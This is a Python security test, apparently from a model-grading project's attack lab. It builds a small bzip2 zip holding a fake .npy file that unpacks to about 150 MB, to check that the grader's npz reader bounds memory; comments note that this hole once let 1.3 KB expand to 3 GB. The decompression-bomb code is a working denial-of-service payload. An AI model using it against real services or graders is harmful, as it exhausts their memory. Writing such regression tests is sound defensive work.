# ruff: noqa: E501  (an attack is easier to read on its one line)
"""Wants the grader's memory, by a method of compression whose reader has no bound.

Won: the grader grew by more than 85 MB.
"""

from tests.attacks.lab import Attack, Evidence, Lab

WALL = "models_are_bounded"
NOT_SHOWN = "it won until this was mended: saved_model.read_npz: zipfile unpacks 4 KB of bzip2 without a bound (1.3 KB -> 3 GB, 15 s), before any check; what stops it now is code that is right, not one wall"


def attack(lab: Lab) -> Attack:
    import io
    import zipfile

    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (10,)}"
    header += b" " * (118 - len(header)) + b"\n"
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive,
        archive.open("W1.npy", "w", force_zip64=True) as file,
    ):
        file.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)
        for _ in range(150):
            file.write(bytes(1 << 20))
    return Attack(model=buffer.getvalue())


ATTACK = attack


def won(evidence: Evidence) -> bool:
    return evidence.megabytes > 85


def took_place(evidence: Evidence) -> bool:
    """The model was looked into."""
    return any("packed in a way" in note for note in evidence.result.notes)
